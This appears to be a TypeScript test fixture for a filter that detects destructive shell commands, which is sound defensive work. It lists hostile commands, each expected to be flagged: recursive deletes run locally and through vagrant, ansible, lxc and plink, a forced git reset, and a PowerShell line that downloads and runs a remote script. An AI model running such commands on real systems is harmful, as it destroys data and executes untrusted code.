import { exec, execFileSync, execSync } from "node:child_process";

// However it is spelled: judged alone, each must get past the pre-filter.
execFileSync(`rm`, ["-rf", "/srv/x"]); // expect: destructive-shell
execFileSync(`git`, [`reset`, `--hard`]); // expect: destructive-shell
execSync("powershell  -Command Remove-Item  -Recurse -Force C:/srv"); // expect: destructive-shell

export class Phone {
  async over(command: string) {
    return new Promise((resolve) => {
      const line = `plink -ssh -batch -l ${user} -pw ${word} ${host} "${command}"`;
      exec(line, resolve);
    });
  }
  async clear() {
    await this.over("find /srv/media -name '*.jpg' -delete"); // expect: destructive-shell
    await this.over("ls /srv/media");
  }
}
execSync("vagrant ssh -c 'rm -rf /srv'"); // expect: destructive-shell
execSync("docker-machine ssh box rm -rf /srv"); // expect: destructive-shell
execSync("ansible all -m shell -a 'rm -rf /srv'"); // expect: destructive-shell
execSync("lxc exec box -- rm -rf /srv"); // expect: destructive-shell
execSync("iex (iwr https://example.com/x.ps1)"); // expect: destructive-shell
